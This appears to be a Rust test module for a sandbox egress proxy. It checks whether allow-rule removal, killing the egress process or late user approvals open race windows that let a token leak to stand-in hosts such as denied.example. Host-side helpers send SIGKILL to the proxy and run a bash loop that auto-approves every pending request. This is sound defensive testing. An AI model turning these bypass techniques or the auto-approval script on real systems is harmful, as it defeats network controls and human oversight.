//! The moments at which a decision and what it is about could come apart: rules that are removed, an
//! egress process that dies, an answer that comes too late.
//!
//! The host does its part when the attack gives a cue, a file in the shared folder, and says when it
//! has. The servers of the bare host care for nothing of that.

use crate::attack::{Attack, Permitted, layer};
use crate::report::PROFILES;
use crate::runner::grants;
use crate::scene::{Lost, Outcome, Scene, YARD};
use crate::stage::{Shot, Stage};
use crate::tongue::{dial, exchange, read_answer, verdict};
use cowork_api::egress::HTTP_PROXY_PORT;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const CLASS: &str = "moments";
const CLOSED: &[(&str, &str)] = &[
    ("refused", layer::EGRESS),
    ("ECONNRESET", layer::EGRESS),
    ("EAGAIN", layer::EGRESS),
    ("ECONNREFUSED", layer::EGRESS),
    ("EPIPE", layer::EGRESS),
    ("said", layer::EGRESS),
    ("failed to fill", layer::EGRESS),
    ("left", layer::EGRESS),
    ("no such name", layer::EGRESS),
];
/// Longest that either side waits for the other.
const PATIENCE: Duration = Duration::from_secs(5);

/// What is allowed until the cue. The name server takes its time over the last one.
const FLEETING: [&str; 3] =
    ["GET http://fleeting.example/**", "fleeting.example:7000", "tardy.example:7000"];

const fn attack(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let heard = |stage: &Stage, shot: &Shot| stage.ears(shot, &["shared", "other"], &shot.token);
    Attack::new(CLASS, name, act, CLOSED).judged(heard).in_town()
}

pub(crate) const TABLE: &[Attack] = &[
    attack("rule-removed.next-request", |scene| {
        let request = |path: &str| {
            format!("GET /{path} HTTP/1.1\r\nHost: fleeting.example\r\n\r\n").into_bytes()
        };
        let mut stream = dial("fleeting.example", 80)?;
        verdict(&exchange(&mut stream, &request("before"))?)?;
        cue(scene)?;
        verdict(&exchange(&mut stream, &request(scene.token()?))?)
    })
    .prepared(remove),
    attack("rule-removed.open-tunnel", |scene| {
        let mut stream = dial("fleeting.example", 7000)?;
        stream.write_all(b"before")?;
        cue(scene)?;
        stream.write_all(scene.token()?.as_bytes())?;
        Err(Lost::new("said"))
    })
    .prepared(remove),
    attack("rule-removed.known-address", |scene| {
        let address = dial("fleeting.example", 7000)?.peer_addr()?;
        cue(scene)?;
        let mut stream = crate::tongue::dial_address(address)?;
        stream.write_all(scene.token()?.as_bytes())?;
        Err(Lost::new("said"))
    })
    .prepared(remove),
    attack("rule-removed.while-connecting", |scene| {
        let mut stream = dial("tardy.example", 7000)?;
        stream.write_all(b"before")?;
        cue(scene)?;
        stream.write_all(scene.token()?.as_bytes())?;
        stream.set_read_timeout(Some(Duration::from_secs(3)))?;
        // Long enough for the host to be found, and connected to.
        stream.read_exact(&mut [0])?;
        Ok("answered".into())
    })
    .prepared(remove),
    attack("egress-killed.meanwhile", |scene| {
        let mut open = dial("open.example", 80)?;
        cue(scene)?;
        let begin = Instant::now();
        let mut last = Err(Lost::new("refused"));
        while begin.elapsed() < Duration::from_millis(700) {
            let token = scene.token()?;
            cowork_sys::ignore(open.write_all(token.as_bytes()));
            last = by_proxy(scene, "denied.example", token).and(last);
            cowork_sys::ignore(by_proxy(scene, "11.22.33.8", token));
            if let Ok(mut stream) = dial("denied.example", 7000) {
                cowork_sys::ignore(stream.write_all(token.as_bytes()));
            }
        }
        last
    })
    .prepared(kill),
    attack("approved.in-time", |scene| {
        let mut stream = ask(scene)?;
        cue(scene)?;
        verdict(&read_answer(&mut stream)?)
    })
    .prepared(approve)
    .permitted(Permitted::Required),
    // Once is for what waited, and for nothing after it.
    attack("approved.and-once-more", |scene| {
        let mut stream = connect(scene)?;
        let request = |path: &str| {
            let head = format!("GET http://asked.example/{path} HTTP/1.1\r\n");
            format!("{head}Host: asked.example\r\n\r\n").into_bytes()
        };
        stream.write_all(&request("before"))?;
        std::thread::sleep(Duration::from_millis(300));
        cue(scene)?;
        verdict(&read_answer(&mut stream)?)?;
        stream.set_read_timeout(Some(Duration::from_secs(1)))?;
        verdict(&exchange(&mut stream, &request(scene.token()?))?)
    })
    .prepared(approve),
    attack("approved.too-late", |scene| {
        drop(ask(scene)?);
        cue(scene)?;
        Err(Lost::new("left"))
    })
    .prepared(approve),
];

fn connect(scene: &Scene) -> Result<TcpStream, Lost> {
    let port = if scene.inside() { HTTP_PROXY_PORT } else { scene.get("proxy")?.parse()? };
    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Asks for something that waits for the user, and gives the question time to get there.
fn ask(scene: &Scene) -> Result<TcpStream, Lost> {
    let mut stream = connect(scene)?;
    let head = format!("GET http://asked.example/{} HTTP/1.1\r\n", scene.token()?);
    stream.write_all(format!("{head}Host: asked.example\r\n\r\n").as_bytes())?;
    std::thread::sleep(Duration::from_millis(300));
    Ok(stream)
}

fn by_proxy(scene: &Scene, host: &str, token: &str) -> Outcome {
    let text = format!("GET http://{host}/{token} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    verdict(&exchange(&mut connect(scene)?, text.as_bytes())?)
}

/// Tells the host that it is its turn, and waits until it has done its part.
pub(super) fn cue(scene: &Scene) -> Result<(), Lost> {
    let token = scene.token()?;
    std::fs::write(format!("{YARD}/cue-{token}"), "")?;
    let begin = Instant::now();
    while std::fs::metadata(format!("{YARD}/done-{token}")).is_err() {
        if begin.elapsed() > PATIENCE {
            return Err(Lost::new("the host did nothing"));
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    Ok(())
}

/// Does something on the host when the cue is given.
fn on_cue(stage: &Stage, token: &str, mut work: Vec<Command>) {
    let [cue, done] = ["cue", "done"].map(|name| stage.path(&format!("{YARD}/{name}-{token}")));
    std::thread::spawn(move || {
        let begin = Instant::now();
        while std::fs::metadata(&cue).is_err() {
            if begin.elapsed() > 2 * PATIENCE {
                return;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        let null = Stdio::null;
        let mut statuses = work
            .iter_mut()
            .map(|command| command.stdin(null()).stdout(null()).stderr(null()).status());
        if statuses.all(|status| status.is_ok_and(|status| status.success())) {
            cowork_sys::ignore(std::fs::write(done, ""));
        }
    });
}

/// The sessions of the town: both, whichever the attack is made in.
fn sessions(stage: &Stage) -> Result<Vec<String>, Lost> {
    let town = stage.town()?;
    PROFILES.iter().map(|profile| town.session(profile, &grants(stage, profile))).collect()
}

/// Allows the fleeting host until the cue.
fn remove(stage: &Stage, token: &str) -> Result<(), Lost> {
    let town = stage.town()?;
    let mut work = Vec::new();
    for id in sessions(stage)? {
        town.tell(&[&["allow", &id], &FLEETING[..]].concat(), "")?;
        let mut command = town.cowork();
        command.args(["allow", &id]).args(FLEETING).arg("--remove");
        work.push(command);
    }
    on_cue(stage, token, work);
    Ok(())
}

/// Kills every egress process at the cue.
fn kill(stage: &Stage, token: &str) -> Result<(), Lost> {
    let town = stage.town()?;
    let mut work = Vec::new();
    for id in sessions(stage)? {
        let rules = town.tell(&["net", "rules", &id, "--json"], "")?;
        let pid = rules
            .split("\"pid\":")
            .nth(1)
            .map(|rest| rest.trim().chars().take_while(char::is_ascii_digit).collect::<String>());
        let pid = pid.filter(|pid| !pid.is_empty());
        let mut command = Command::new("kill");
        command.args(["-KILL", &pid.ok_or_else(|| Lost::new("no egress process is named"))?]);
        work.push(command);
    }
    on_cue(stage, token, work);
    Ok(())
}

/// Allows whatever is asked for at the cue.
fn approve(stage: &Stage, token: &str) -> Result<(), Lost> {
    // What is no longer asked when its turn comes cannot be decided.
    let script = "for n in $(\"$0\" requests --json | grep -o '\"id\": *[0-9]*' | grep -o '[0-9]*'); \
                  do \"$0\" decide $n allow; done; true";
    asks_of(stage, token, script, Path::new("/dev/null"))
}

/// Has a script of the host look at what is asked at the cue; it is given `cowork` and a path.
pub(super) fn asks_of(stage: &Stage, token: &str, script: &str, path: &Path) -> Result<(), Lost> {
    sessions(stage)?;
    let cowork = stage.town()?.cowork();
    let mut command = Command::new("bash");
    command.args(["-c", script]).arg(cowork.get_program()).arg(path).env_clear();
    command.envs(cowork.get_envs().filter_map(|(name, value)| Some((name, value?))));
    if stage.person == cowork_testbed::Person::User {
        use std::os::unix::process::CommandExt as _;
        command.uid(stage.person.uid()).gid(stage.person.uid());
    }
    on_cue(stage, token, vec![command]);
    Ok(())
}
